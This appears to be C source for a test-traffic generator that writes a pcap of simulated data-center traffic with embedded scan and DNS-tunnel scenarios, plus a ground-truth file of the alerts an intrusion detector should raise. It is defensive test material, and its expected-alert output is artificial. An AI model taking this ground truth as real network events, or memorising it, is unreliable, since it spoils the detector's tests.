/* gen_traffic.c — sample traffic of the provincial data center, with ground truth.
 *
 *   gen_traffic -o OUT.pcap -t TRUTH.tsv [--bytes N] [--seed N]
 *
 * Writes (with libpcap) a capture of traffic as the sensor behind the
 * perimeter firewall of the Tuyên Quang data center sees it — benign HTTP/1.1
 * to the province's portals, DNS to its servers, TLS on 443 — with attacks
 * embedded that trigger every alert rule of the starter rules (rules/) and
 * every detector of rules/detectors.conf (a port scan, a host sweep, a slow
 * scan, DNS tunnels), and the ground truth of what canhgac must report for
 * it: one line per incident, "sid src dst count" (the detectors' sids are
 * 1, 3, 100 of gid 122 and 201-203 of gid 9100). demo.sh and tests/e2e.sh
 * use it.
 *
 * The truth is computed from what is emitted, not typed: the code that sends a
 * triggering payload says which rules it matches (for dns.rules, derived from
 * the query's bytes); when that packet is written, the rule's threshold or
 * detection_filter arithmetic (as analyzer/engine/threshold.c does it) decides whether
 * it alerts, and alerts fold into incidents of (sid, src, dst) within 3600 s of
 * the incident's first alert (as analyzer/output/incident.c does). The engine looks
 * at one packet at a time, so every triggering payload is one TCP segment or
 * UDP datagram.
 *
 * Every TCP connection has its handshake, data with correct sequence and
 * acknowledgement numbers, and its FIN teardown; every frame has an Ethernet
 * header (those of the agencies' WAN an 802.1Q tag), a correct IPv4 header
 * checksum and TCP/UDP checksums; one attacker comes over IPv6. Sessions
 * overlap in time: each is generated whole from its start time, its frames
 * staged in a pool ordered by time and written once no later session can
 * start before them. Timestamps start at 2025-11-24 08:00:00 UTC and strictly
 * increase. The output is a function of --seed alone (own xorshift generator).
 * Without --bytes: one round (every attack scenario, about 8 minutes, a few
 * MB). With --bytes N: rounds follow each other, with denser benign traffic,
 * until the file is about N bytes. Nothing is allocated per packet.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <math.h>
#include <pcap/pcap.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#define START_US (1763971200ull * 1000000ull) /* 2025-11-24 08:00:00 UTC */
#define SEC 1000000ull
#define MS 1000ull
#define WINDOW_US (3600ull * SEC) /* canhgac's incident window */
#define MSS 1460
#define FRAME_MAX 1548 /* VLAN + IPv6 + TCP + MSS, padded */
#define TEXT_MAX 16384
#define TABLE_BITS 17 /* bookkeeping tables: 2^17 keys */

/* ---- deterministic pseudo-random numbers (xorshift64*) ------------------ */

typedef struct rng {
    uint64_t s;
} rng;

static uint64_t rnd(rng *r)
{
    r->s ^= r->s >> 12;
    r->s ^= r->s << 25;
    r->s ^= r->s >> 27;
    return r->s * 0x2545f4914f6cdd1dull;
}

/* uniform in [0, n) (n > 0) */
static uint32_t below(rng *r, uint32_t n)
{
    return (uint32_t)((rnd(r) >> 32) * n >> 32);
}
/* uniform in [a, b] */
static uint64_t between(rng *r, uint64_t a, uint64_t b)
{
    return a + rnd(r) % (b - a + 1);
}
#define PICK(r, arr) ((arr)[below((r), (uint32_t)(sizeof(arr) / sizeof((arr)[0])))])

/* ---- addresses ------------------------------------------------------------ */

/* 16 bytes, IPv4 stored IPv4-mapped (::ffff:a.b.c.d) as canhgac keys them. */
typedef struct ip {
    uint8_t a[16];
} ip;

static ip ip4(uint8_t a, uint8_t b, uint8_t c, uint8_t d)
{
    ip x = { { 0 } };
    x.a[10] = x.a[11] = 0xff;
    x.a[12] = a;
    x.a[13] = b;
    x.a[14] = c;
    x.a[15] = d;
    return x;
}

static ip ip6(const char *s)
{
    ip x;
    if (inet_pton(AF_INET6, s, x.a) != 1)
        abort(); /* only literals of this file reach here */
    return x;
}

static int is_v4(const ip *x)
{
    static const uint8_t pre[12] = { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff };
    return !memcmp(x->a, pre, 12);
}

static void ip_str(const ip *x, char *out, size_t n)
{
    if (is_v4(x))
        inet_ntop(AF_INET, x->a + 12, out, (socklen_t)n);
    else
        inet_ntop(AF_INET6, x->a, out, (socklen_t)n);
}

/* HOME_NET of rules/vars.conf: 10.20/16, 10.21/16, fd00:2200::/48 */
static int in_home(const ip *x)
{
    if (is_v4(x))
        return x->a[12] == 10 && (x->a[13] == 20 || x->a[13] == 21);
    static const uint8_t p6[6] = { 0xfd, 0x00, 0x22, 0x00, 0x00, 0x00 };
    return !memcmp(x->a, p6, 6);
}

/* A public IPv4 address: not private, reserved, multicast or documentation. */
static ip public_ip(rng *r)
{
    for (;;) {
        uint32_t v = (uint32_t)(rnd(r) >> 32);
        uint8_t a = (uint8_t)(v >> 24), b = (uint8_t)(v >> 16);
        if (a == 0 || a == 10 || a == 127 || a >= 224 || a == 100 || a == 169 ||
            (a == 172 && (b & 0xf0) == 16) || (a == 192 && b == 168) || (a == 192 && b == 0) ||
            (a == 198 && (b == 18 || b == 19 || b == 51)) || (a == 203 && b == 0) ||
            (v & 0xff) == 0 || (v & 0xff) == 255)
            continue;
        return ip4(a, b, (uint8_t)(v >> 8), (uint8_t)v);
    }
}

/* Vietnamese access networks (VNPT, Viettel, FPT) for the province's citizens. */
static ip vn_client_ip(rng *r)
{
    static const uint8_t pre[][2] = {
        { 14, 160 },  { 14, 161 },  { 14, 177 },  { 113, 160 }, { 113, 185 }, { 116, 96 },
        { 116, 110 }, { 171, 224 }, { 171, 241 }, { 27, 64 },   { 27, 72 },   { 42, 112 },
        { 42, 118 },  { 115, 73 },  { 118, 70 },  { 123, 16 },  { 125, 212 }, { 183, 80 },
    };
    const uint8_t *p = pre[below(r, sizeof pre / sizeof pre[0])];
    return ip4(p[0], p[1], (uint8_t)below(r, 256), (uint8_t)between(r, 1, 254));
}

/* ---- the generator ------------------------------------------------------- */

typedef struct th_entry { /* threshold state of (rule, tracked address) */
    uint32_t rule;        /* index + 1; 0 = empty */
    ip key;
    uint64_t start_us;
    uint32_t count;
} th_entry;

typedef struct inc_entry { /* an open incident of (sid, src, dst) */
    uint32_t sid;          /* 0 = empty */
    ip src, dst;
    uint64_t first_us;
    uint64_t count;
} inc_entry;

/* A frame waiting to be written: sessions overlap in time, so frames are
 * staged and written in time order once no later session can come before. */
#define PKT_SIDS 6
enum { DET_QUERY = 1, DET_PROBE }; /* pkt.det: what canhgac's detectors count */
typedef struct pkt {
    uint64_t ts, seq;
    ip src, dst;             /* of the expected alerts */
    uint32_t sids[PKT_SIDS]; /* rules this packet triggers */
    uint16_t len;
    uint8_t nsid;
    uint8_t det;               /* DET_*: what canhgac's detectors see in it */
    uint16_t det_off, det_len; /* DET_QUERY: the DNS message in data */
    uint16_t det_port;         /* DET_PROBE: the port probed */
    ip det_src, det_dst;       /* DET_QUERY: client, resolver; DET_PROBE: scanner, host */
    uint8_t data[FRAME_MAX];
} pkt;

typedef struct gen {
    rng r;
    pcap_t *pd;
    pcap_dumper_t *dump;
    FILE *truth;
    uint64_t now_us; /* time of the next packet of the current session */
    uint64_t out_us; /* time of the last frame written */
    uint64_t bytes;  /* size of the pcap file so far (staged frames included) */
    uint64_t packets;
    /* staged frames: a pool of slots and a heap of them ordered by (ts, seq) */
    pkt *pool;
    uint32_t *heap, *freel;
    uint32_t cap, nheap, nfree;
    uint64_t seq;
    uint32_t last_slot; /* slot of the last frame staged */
    uint32_t mark_slot; /* slot of the first segment of the last message */
    uint16_t next_port; /* ephemeral ports, cycled */
    /* bookkeeping of the expected alerts */
    th_entry *th, *th_spare;
    inc_entry *inc, *inc_spare;
    uint32_t th_used, inc_used;
    uint64_t alerts, incidents;
    int truth_err;
    /* bookkeeping of the detectors' expected alerts */
    struct det_entry *det, *det_spare;
    struct det_seen *seen, *seen_spare;
    uint32_t det_used, seen_used;
    /* buffers reused for every packet and every message */
    uint8_t frame[FRAME_MAX];
    char text[TEXT_MAX];
    char body[TEXT_MAX];
} gen;

/* ---- frames: Ethernet (802.1Q), IPv4/IPv6, TCP/UDP with checksums --------- */

static const uint8_t FW_MAC[6] = { 0x00, 0x1b, 0x17, 0xa0, 0x00, 0x01 }; /* firewall inside */

/* Hosts of the data center have their own MAC; everything else is routed
 * through the perimeter firewall, whose MAC the sensor sees. */
static void mac_of(const ip *x, uint8_t mac[6])
{
    if (is_v4(x) && x->a[12] == 10 && x->a[13] == 20) {
        uint8_t m[6] = { 0x00, 0x50, 0x56, 0x14, x->a[14], x->a[15] };
        memcpy(mac, m, 6);
    } else if (!is_v4(x) && in_home(x)) {
        uint8_t m[6] = { 0x00, 0x50, 0x56, 0x16, x->a[7], x->a[15] };
        memcpy(mac, m, 6);
    } else {
        memcpy(mac, FW_MAC, 6);
    }
}

static uint32_t sum16(uint32_t s, const uint8_t *p, size_t n)
{
    for (; n > 1; n -= 2, p += 2)
        s += (uint32_t)p[0] << 8 | p[1];
    if (n)
        s += (uint32_t)p[0] << 8;
    return s;
}

static uint16_t fold(uint32_t s)
{
    while (s >> 16)
        s = (s & 0xffff) + (s >> 16);
    return (uint16_t)~s;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}
static void put32(uint8_t *p, uint32_t v)
{
    p[0] = (uint8_t)(v >> 24);
    p[1] = (uint8_t)(v >> 16);
    p[2] = (uint8_t)(v >> 8);
    p[3] = (uint8_t)v;
}

static int pkt_before(const gen *g, uint32_t a, uint32_t b)
{
    const pkt *x = &g->pool[a], *y = &g->pool[b];
    return x->ts < y->ts || (x->ts == y->ts && x->seq < y->seq);
}

static void heap_push(gen *g, uint32_t slot)
{
    uint32_t i = g->nheap++;
    g->heap[i] = slot;
    while (i && pkt_before(g, g->heap[i], g->heap[(i - 1) / 2])) {
        uint32_t p = (i - 1) / 2, t = g->heap[i];
        g->heap[i] = g->heap[p];
        g->heap[p] = t;
        i = p;
    }
}

static uint32_t heap_pop(gen *g)
{
    uint32_t top = g->heap[0];
    g->heap[0] = g->heap[--g->nheap];
    uint32_t i = 0;
    for (;;) {
        uint32_t l = 2 * i + 1, m = i;
        if (l < g->nheap && pkt_before(g, g->heap[l], g->heap[m]))
            m = l;
        if (l + 1 < g->nheap && pkt_before(g, g->heap[l + 1], g->heap[m]))
            m = l + 1;
        if (m == i)
            break;
        uint32_t t = g->heap[i];
        g->heap[i] = g->heap[m];
        g->heap[m] = t;
        i = m;
    }
    return top;
}

/* Twice the slots (rare: the pool holds the frames of the sessions in
 * progress; not an allocation per packet). */
static void pool_grow(gen *g)
{
    uint32_t ncap = g->cap ? g->cap * 2 : 4096;
    pkt *np = realloc(g->pool, (size_t)ncap * sizeof *np);
    if (np)
        g->pool = np;
    uint32_t *nh = realloc(g->heap, (size_t)ncap * sizeof *nh);
    if (nh)
        g->heap = nh;
    uint32_t *nf = realloc(g->freel, (size_t)ncap * sizeof *nf);
    if (nf)
        g->freel = nf;
    if (!np || !nh || !nf) {
        fprintf(stderr, "gen_traffic: out of memory\n");
        exit(1);
    }
    for (uint32_t i = ncap; i-- > g->cap;)
        g->freel[g->nfree++] = i;
    g->cap = ncap;
}

/* Stages the frame of the frame buffer (len bytes) at g->now_us. */
static void write_frame(gen *g, size_t len)
{
    if (len < 60) { /* Ethernet minimum, without FCS */
        memset(g->frame + len, 0, 60 - len);
        len = 60;
    }
    if (!g->nfree)
        pool_grow(g);
    uint32_t slot = g->freel[--g->nfree];
    pkt *p = &g->pool[slot];
    p->ts = g->now_us;
    p->seq = g->seq++;
    p->len = (uint16_t)len;
    p->nsid = 0;
    p->det = 0;
    memcpy(p->data, g->frame, len);
    heap_push(g, slot);
    g->last_slot = slot;
    g->bytes += 16 + len;
    g->packets++;
    g->now_us++; /* the next packet is strictly later */
}

/* One IP packet from src to dst: l4 is the transport header (its checksum
 * field zero), data its payload. ipid / ttl as the sender sets them. */
static void ip_packet(gen *g, const ip *src, const ip *dst, uint16_t vlan, uint8_t proto,
                      const uint8_t *l4, size_t l4len, const void *data, size_t dlen, uint16_t ipid,
                      uint8_t ttl)
{
    uint8_t *f = g->frame;
    size_t off = 0;
    uint8_t sm[6], dm[6];
    mac_of(src, sm);
    mac_of(dst, dm);
    memcpy(f, dm, 6);
    memcpy(f + 6, sm, 6);
    off = 12;
    if (vlan) {
        put16(f + off, 0x8100);
        put16(f + off + 2, vlan & 0x0fff);
        off += 4;
    }
    int v4 = is_v4(src);
    put16(f + off, v4 ? 0x0800 : 0x86dd);
    off += 2;
    size_t l4total = l4len + dlen;
    if (off + (v4 ? 20 : 40) + l4total > FRAME_MAX) {
        fprintf(stderr, "gen_traffic: internal error: frame of %zu bytes\n", off + 40 + l4total);
        abort();
    }
    uint8_t *iph = f + off;
    uint32_t ps; /* pseudo-header sum */
    if (v4) {
        iph[0] = 0x45;
        iph[1] = 0;
        put16(iph + 2, (uint16_t)(20 + l4total));
        put16(iph + 4, ipid);
        put16(iph + 6, 0x4000); /* DF */
        iph[8] = ttl;
        iph[9] = proto;
        put16(iph + 10, 0);
        memcpy(iph + 12, src->a + 12, 4);
        memcpy(iph + 16, dst->a + 12, 4);
        put16(iph + 10, fold(sum16(0, iph, 20)));
        ps = sum16(sum16(0, src->a + 12, 4), dst->a + 12, 4);
        off += 20;
    } else {
        put32(iph, 0x60000000u | ((uint32_t)ipid * 2654435761u & 0xfffff));
        put16(iph + 4, (uint16_t)l4total);
        iph[6] = proto;
        iph[7] = ttl;
        memcpy(iph + 8, src->a, 16);
        memcpy(iph + 24, dst->a, 16);
        ps = sum16(sum16(0, src->a, 16), dst->a, 16);
        off += 40;
    }
    ps += proto + (uint32_t)l4total;
    uint8_t *l4p = f + off;
    memcpy(l4p, l4, l4len);
    if (dlen)
        memcpy(l4p + l4len, data, dlen);
    size_t ck = proto == 6 ? 16 : 6;
    uint16_t c = fold(sum16(ps, l4p, l4total));
    if (proto == 17 && c == 0)
        c = 0xffff;
    put16(l4p + ck, c);
    write_frame(g, off + l4total);
}

/* ---- TCP connections ----------------------------------------------------- */

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10

typedef struct conn {
    ip cli, srv;
    uint16_t cport, sport, vlan;
    uint32_t cseq, sseq; /* next sequence number of each side */
    uint16_t cid, sid;   /* IP ids */
    uint8_t cttl, sttl;
    uint16_t cwin, swin;
    uint32_t rtt_us; /* sensor - client - sensor */
} conn;

static uint16_t ephemeral(gen *g)
{
    if (g->next_port < 32768 || g->next_port >= 60999)
        g->next_port = 32768;
    g->next_port = (uint16_t)(g->next_port + 1 + below(&g->r, 7));
    return g->next_port;
}

static void tcp_seg(gen *g, conn *c, int from_cli, uint8_t flags, const void *data, size_t len)
{
    uint8_t h[32];
    size_t hl = 20;
    memset(h, 0, sizeof h);
    put16(h, from_cli ? c->cport : c->sport);
    put16(h + 2, from_cli ? c->sport : c->cport);
    put32(h + 4, from_cli ? c->cseq : c->sseq);
    put32(h + 8, (flags & TH_ACK) ? (from_cli ? c->sseq : c->cseq) : 0);
    if (flags & TH_SYN) { /* MSS, NOP, WS, NOP, NOP, SACK-permitted */
        static const uint8_t opt[12] = { 2, 4, MSS >> 8, MSS & 0xff, 1, 3, 3, 7, 1, 1, 4, 2 };
        memcpy(h + 20, opt, 12);
        hl = 32;
    }
    h[12] = (uint8_t)(hl / 4) << 4;
    h[13] = flags;
    put16(h + 14, from_cli ? c->cwin : c->swin);
    const ip *s = from_cli ? &c->cli : &c->srv, *d = from_cli ? &c->srv : &c->cli;
    uint16_t id = from_cli ? c->cid++ : c->sid++;
    ip_packet(g, s, d, c->vlan, 6, h, hl, data, len, id, from_cli ? c->cttl : c->sttl);
    uint32_t adv = (uint32_t)len + ((flags & (TH_SYN | TH_FIN)) ? 1 : 0);
    if (from_cli)
        c->cseq += adv;
    else
        c->sseq += adv;
}

/* A connection from cli to srv:sport; rtt in microseconds (client side). */
static void tcp_open(gen *g, conn *c, const ip *cli, const ip *srv, uint16_t sport, uint16_t vlan,
                     uint32_t rtt_us)
{
    memset(c, 0, sizeof *c);
    c->cli = *cli;
    c->srv = *srv;
    c->cport = ephemeral(g);
    c->sport = sport;
    c->vlan = vlan;
    c->cseq = (uint32_t)rnd(&g->r);
    c->sseq = (uint32_t)rnd(&g->r);
    c->cid = (uint16_t)rnd(&g->r);
    c->sid = (uint16_t)rnd(&g->r);
    c->cttl = in_home(cli)
        ? 63
        : (uint8_t)(below(&g->r, 2) ? 128 - between(&g->r, 8, 20) : 64 - between(&g->r, 6, 18));
    c->sttl = 64;
    c->cwin = (uint16_t)(below(&g->r, 2) ? 64240 : 65535);
    c->swin = 64240;
    c->rtt_us = rtt_us;
    tcp_seg(g, c, 1, TH_SYN, NULL, 0);
    g->now_us += between(&g->r, 40, 250);
    tcp_seg(g, c, 0, TH_SYN | TH_ACK, NULL, 0);
    g->now_us += rtt_us;
    tcp_seg(g, c, 1, TH_ACK, NULL, 0);
    g->now_us += between(&g->r, 20, 200);
}

/* Sends len bytes one way, split into MSS segments, then the peer's ACK.
 * g->mark_slot is the first segment (the one an expected alert is about). */
static void tcp_send(gen *g, conn *c, int from_cli, const void *data, size_t len)
{
    const uint8_t *p = data;
    int first = 1;
    while (len) {
        size_t n = len > MSS ? MSS : len;
        tcp_seg(g, c, from_cli, (uint8_t)(TH_ACK | (n == len ? TH_PSH : 0)), p, n);
        if (first)
            g->mark_slot = g->last_slot;
        first = 0;
        p += n;
        len -= n;
        if (len)
            g->now_us += between(&g->r, 15, 120);
    }
    /* the receiver's ACK: the client is rtt away, the server next door */
    g->now_us += from_cli ? between(&g->r, 30, 300) : c->rtt_us;
    tcp_seg(g, c, !from_cli, TH_ACK, NULL, 0);
    g->now_us += between(&g->r, 20, 200);
}

/* FIN from one side, FIN from the other, last ACK. */
static void tcp_close(gen *g, conn *c, int cli_first)
{
    uint32_t far = c->rtt_us, near = (uint32_t)between(&g->r, 40, 300);
    tcp_seg(g, c, cli_first, TH_FIN | TH_ACK, NULL, 0);
    g->now_us += cli_first ? near : far;
    tcp_seg(g, c, !cli_first, TH_FIN | TH_ACK, NULL, 0);
    g->now_us += cli_first ? far : near;
    tcp_seg(g, c, cli_first, TH_ACK, NULL, 0);
    g->now_us += between(&g->r, 20, 200);
}

/* One UDP datagram; g->mark_slot is it. */
static void udp_send(gen *g, const ip *src, const ip *dst, uint16_t sport, uint16_t dport,
                     uint16_t vlan, const void *data, size_t len)
{
    uint8_t h[8];
    put16(h, sport);
    put16(h + 2, dport);
    put16(h + 4, (uint16_t)(8 + len));
    put16(h + 6, 0);
    ip_packet(g, src, dst, vlan, 17, h, 8, data, len, (uint16_t)rnd(&g->r),
              in_home(src) ? 64 : (uint8_t)between(&g->r, 44, 116));
    g->mark_slot = g->last_slot;
    if (dport == 53 && len >= 12 && !(((const uint8_t *)data)[2] & 0x80)) {
        pkt *p = &g->pool[g->last_slot];
        p->det = DET_QUERY;
        p->det_off = (uint16_t)(14 + (vlan ? 4 : 0) + (is_v4(src) ? 20 : 40) + 8);
        p->det_len = (uint16_t)len;
        p->det_src = *src;
        p->det_dst = *dst;
    }
}

/* ---- expected alerts: the starter rules' thresholds ----------------------- */

enum { TH_NONE, TH_LIMIT, TH_THRESHOLD, TH_BOTH, TH_DF };
enum { BY_NONE, BY_SRC, BY_DST };

typedef struct rule_th {
    uint32_t sid;
    uint8_t type, track;
    uint32_t count, seconds;
} rule_th;

/* threshold: / detection_filter: of every alert rule of rules/NAME.rules */
static const rule_th RULES[] = {
    /* web.rules */
    { 9100101, 0, 0, 0, 0 },
    { 9100102, 0, 0, 0, 0 },
    { 9100103, 0, 0, 0, 0 },
    { 9100104, 0, 0, 0, 0 },
    { 9100105, 0, 0, 0, 0 },
    { 9100106, 0, 0, 0, 0 },
    { 9100107, 0, 0, 0, 0 },
    { 9100108, 0, 0, 0, 0 },
    { 9100109, 0, 0, 0, 0 },
    { 9100110, 0, 0, 0, 0 },
    { 9100111, 0, 0, 0, 0 },
    { 9100112, 0, 0, 0, 0 },
    { 9100113, 0, 0, 0, 0 },
    { 9100114, 0, 0, 0, 0 },
    { 9100115, 0, 0, 0, 0 },
    { 9100116, 0, 0, 0, 0 },
    { 9100117, 0, 0, 0, 0 },
    { 9100118, 0, 0, 0, 0 },
    { 9100119, 0, 0, 0, 0 },
    { 9100120, 0, 0, 0, 0 },
    { 9100121, 0, 0, 0, 0 },
    { 9100122, 0, 0, 0, 0 },
    { 9100123, 0, 0, 0, 0 },
    { 9100124, 0, 0, 0, 0 },
    { 9100125, 0, 0, 0, 0 },
    /* scan.rules */
    { 9100201, TH_LIMIT, BY_SRC, 3, 600 },
    { 9100202, TH_LIMIT, BY_SRC, 5, 600 },
    { 9100203, 0, 0, 0, 0 },
    { 9100204, 0, 0, 0, 0 },
    { 9100205, TH_LIMIT, BY_SRC, 5, 600 },
    { 9100206, TH_THRESHOLD, BY_SRC, 10, 60 },
    { 9100207, TH_LIMIT, BY_SRC, 2, 600 },
    { 9100208, 0, 0, 0, 0 },
    { 9100209, 0, 0, 0, 0 },
    /* bruteforce.rules */
    { 9100301, TH_THRESHOLD, BY_SRC, 5, 60 },
    { 9100302, TH_LIMIT, BY_SRC, 1, 3600 },
    { 9100303, TH_THRESHOLD, BY_DST, 5, 120 },
    { 9100304, TH_BOTH, BY_SRC, 5, 60 },
    { 9100305, TH_THRESHOLD, BY_DST, 3, 60 },
    { 9100306, TH_DF, BY_SRC, 10, 120 },
    { 9100307, TH_THRESHOLD, BY_DST, 10, 60 },
    /* dns.rules */
    { 9100401, TH_LIMIT, BY_SRC, 5, 600 },
    { 9100402, 0, 0, 0, 0 },
    { 9100403, 0, 0, 0, 0 },
    { 9100404, TH_LIMIT, BY_SRC, 3, 600 },
    { 9100405, TH_THRESHOLD, BY_SRC, 20, 60 },
    { 9100406, TH_BOTH, BY_SRC, 50, 10 },
    { 9100407, TH_LIMIT, BY_SRC, 1, 300 },
    { 9100408, 0, 0, 0, 0 },
    /* dataleak.rules */
    { 9100501, 0, 0, 0, 0 },
    { 9100502, 0, 0, 0, 0 },
    { 9100503, 0, 0, 0, 0 },
    { 9100504, 0, 0, 0, 0 },
    { 9100505, 0, 0, 0, 0 },
    { 9100506, 0, 0, 0, 0 },
    { 9100507, 0, 0, 0, 0 },
    { 9100508, 0, 0, 0, 0 },
    { 9100509, TH_LIMIT, BY_SRC, 1, 3600 },
    { 9100510, TH_LIMIT, BY_SRC, 3, 3600 },
    { 9100511, TH_LIMIT, BY_SRC, 3, 3600 },
    { 9100512, 0, 0, 0, 0 },
    { 9100513, TH_LIMIT, BY_DST, 1, 3600 },
    /* canhgac's detectors (rules/detectors.conf): gid 122 and 9100 */
    { 1, 0, 0, 0, 0 },
    { 3, 0, 0, 0, 0 },
    { 100, 0, 0, 0, 0 },
    { 201, 0, 0, 0, 0 },
    { 202, 0, 0, 0, 0 },
    { 203, 0, 0, 0, 0 },
};
#define NRULES (sizeof RULES / sizeof RULES[0])
#define TABLE_SIZE (1u << TABLE_BITS)

static uint32_t rule_index(uint32_t sid)
{
    for (uint32_t i = 0; i < NRULES; i++)
        if (RULES[i].sid == sid)
            return i;
    fprintf(stderr, "gen_traffic: internal error: no rule %u\n", sid);
    abort();
}

static uint64_t hash_key(uint64_t h, const ip *a, const ip *b)
{
    h ^= 0xcbf29ce484222325ull;
    for (int i = 0; i < 16; i++)
        h = (h ^ a->a[i]) * 0x100000001b3ull;
    for (int i = 0; b && i < 16; i++)
        h = (h ^ b->a[i]) * 0x100000001b3ull;
    return h ^ h >> 29;
}

static void truth_line(gen *g, const inc_entry *e)
{
    char s[INET6_ADDRSTRLEN], d[INET6_ADDRSTRLEN];
    ip_str(&e->src, s, sizeof s);
    ip_str(&e->dst, d, sizeof d);
    if (fprintf(g->truth, "%u\t%s\t%s\t%" PRIu64 "\n", e->sid, s, d, e->count) < 0)
        g->truth_err = 1;
    g->incidents++;
}

/* Drops what no later alert can touch (time only increases): threshold
 * windows that ended, incidents past their window (written out). */
static void compact(gen *g, uint64_t now)
{
    memset(g->th_spare, 0, TABLE_SIZE * sizeof *g->th_spare);
    g->th_used = 0;
    for (uint32_t i = 0; i < TABLE_SIZE; i++) {
        th_entry *e = &g->th[i];
        if (!e->rule || now - e->start_us >= (uint64_t)RULES[e->rule - 1].seconds * SEC)
            continue;
        uint64_t h = hash_key(e->rule, &e->key, NULL);
        uint32_t j = (uint32_t)h & (TABLE_SIZE - 1);
        while (g->th_spare[j].rule)
            j = (j + 1) & (TABLE_SIZE - 1);
        g->th_spare[j] = *e;
        g->th_used++;
    }
    th_entry *t = g->th;
    g->th = g->th_spare;
    g->th_spare = t;

    memset(g->inc_spare, 0, TABLE_SIZE * sizeof *g->inc_spare);
    g->inc_used = 0;
    for (uint32_t i = 0; i < TABLE_SIZE; i++) {
        inc_entry *e = &g->inc[i];
        if (!e->sid)
            continue;
        if (now - e->first_us >= WINDOW_US) {
            truth_line(g, e);
            continue;
        }
        uint32_t j = (uint32_t)hash_key(e->sid, &e->src, &e->dst) & (TABLE_SIZE - 1);
        while (g->inc_spare[j].sid)
            j = (j + 1) & (TABLE_SIZE - 1);
        g->inc_spare[j] = *e;
        g->inc_used++;
    }
    inc_entry *u = g->inc;
    g->inc = g->inc_spare;
    g->inc_spare = u;
}

/* As cg_threshold_check: does this match of rule ri raise an alert? */
static int threshold_pass(gen *g, uint32_t ri, const ip *src, const ip *dst, uint64_t ts)
{
    const rule_th *t = &RULES[ri];
    static const ip zero;
    const ip *key = t->track == BY_SRC ? src : t->track == BY_DST ? dst : &zero;
    if (g->th_used > TABLE_SIZE / 2)
        compact(g, ts);
    uint32_t j = (uint32_t)hash_key(ri + 1, key, NULL) & (TABLE_SIZE - 1);
    while (g->th[j].rule && !(g->th[j].rule == ri + 1 && !memcmp(&g->th[j].key, key, sizeof *key)))
        j = (j + 1) & (TABLE_SIZE - 1);
    th_entry *e = &g->th[j];
    uint64_t win = (uint64_t)t->seconds * SEC;
    if (e->rule && ts >= e->start_us && ts - e->start_us < win) {
        e->count++;
        switch (t->type) {
        case TH_LIMIT: return e->count <= t->count;
        case TH_THRESHOLD:
            if (e->count >= t->count) {
                e->count = 0;
                return 1;
            }
            return 0;
        case TH_BOTH: return e->count == t->count;
        default: return e->count > t->count;
        }
    }
    if (!e->rule)
        g->th_used++;
    e->rule = ri + 1;
    e->key = *key;
    e->start_us = ts;
    e->count = 1;
    switch (t->type) {
    case TH_LIMIT: return t->count >= 1;
    case TH_THRESHOLD:
        if (t->count <= 1) {
            e->count = 0;
            return 1;
        }
        return 0;
    case TH_BOTH: return t->count <= 1;
    default: return t->count == 0;
    }
}

/* A match of rule sid by a packet from src to dst written at ts (in file
 * order): the threshold decides, the alert folds into its incident. */
static void account(gen *g, uint32_t sid, const ip *src, const ip *dst, uint64_t ts)
{
    uint32_t ri = rule_index(sid);
    if (RULES[ri].type != TH_NONE && !threshold_pass(g, ri, src, dst, ts))
        return;
    g->alerts++;
    if (g->inc_used > TABLE_SIZE / 2)
        compact(g, ts);
    uint32_t j = (uint32_t)hash_key(sid, src, dst) & (TABLE_SIZE - 1);
    while (g->inc[j].sid &&
           !(g->inc[j].sid == sid && !memcmp(&g->inc[j].src, src, sizeof *src) &&
             !memcmp(&g->inc[j].dst, dst, sizeof *dst)))
        j = (j + 1) & (TABLE_SIZE - 1);
    inc_entry *e = &g->inc[j];
    if (e->sid && ts >= e->first_us && ts - e->first_us < WINDOW_US) {
        e->count++;
        return;
    }
    if (e->sid)
        truth_line(g, e); /* past its window: a new incident starts */
    else
        g->inc_used++;
    e->sid = sid;
    e->src = *src;
    e->dst = *dst;
    e->first_us = ts;
    e->count = 1;
}

/* The message just sent (its first packet: g->mark_slot) from src to dst
 * matches rule sid; counted when the packet is written. */
static void expect(gen *g, uint32_t sid, const ip *src, const ip *dst)
{
    pkt *p = &g->pool[g->mark_slot];
    rule_index(sid);
    if (p->nsid == PKT_SIDS ||
        (p->nsid && (memcmp(&p->src, src, sizeof *src) || memcmp(&p->dst, dst, sizeof *dst)))) {
        fprintf(stderr, "gen_traffic: internal error: expectations of sid %u\n", sid);
        abort();
    }
    p->src = *src;
    p->dst = *dst;
    p->sids[p->nsid++] = sid;
}

/* ---- expected alerts: canhgac's detectors ----------------------------------
 *
 * As analyzer/engine/detectors.h says they work, with the settings of
 * rules/detectors.conf, from what each packet is when it is written (time
 * order): a DNS query (by its sender and registered domain), or a TCP probe
 * that did not complete a handshake (at the RST that ends it). Distinct
 * values are counted exactly here; canhgac counts them in sketches that
 * never count more, a few probes later at worst, so the scenarios stay well
 * clear of the thresholds (their windows too). Only what the scenarios send
 * can alert: every benign connection completes its handshake and benign
 * lookups are few names of short labels. DNS over TCP (the AXFR attempts)
 * carries nothing the detectors count and is left out. */

enum { DE_SRC = 1, DE_VERT, DE_HORIZ, DE_LONG, DE_NAMES, DE_TYPES };

#define DET_SCAN_WIN (60 * SEC)   /* port_scan.window, host_sweep.window */
#define DET_SLOW_WIN (1800 * SEC) /* slow_scan.window */
#define DET_DNS_WIN (300 * SEC)   /* dns_*.window */
#define DET_PORTS 25
#define DET_HOSTS 25
#define DET_PROBES 40
#define DET_LONGQ 10
#define DET_NAMES_N 100
#define DET_TYPESQ 50
#define DET_TABLE (1u << 16) /* emulated entries */
#define DET_SEEN (1u << 20)  /* distinct values of the open windows */

struct det_entry {
    uint8_t kind; /* DE_*; 0 = empty */
    uint8_t alerted, has_vert, has_horiz;
    ip a, b;  /* the source; host, port or domain */
    ip first; /* the window's first host */
    uint64_t start_us, vert_us, horiz_us;
    uint32_t count;
};

struct det_seen {      /* a value counted in an entry's window */
    uint64_t key;      /* 0 = empty */
    uint64_t until_us; /* the window's end */
};

static uint64_t det_window(uint8_t kind)
{
    return kind == DE_SRC ? DET_SLOW_WIN : kind <= DE_HORIZ ? DET_SCAN_WIN : DET_DNS_WIN;
}

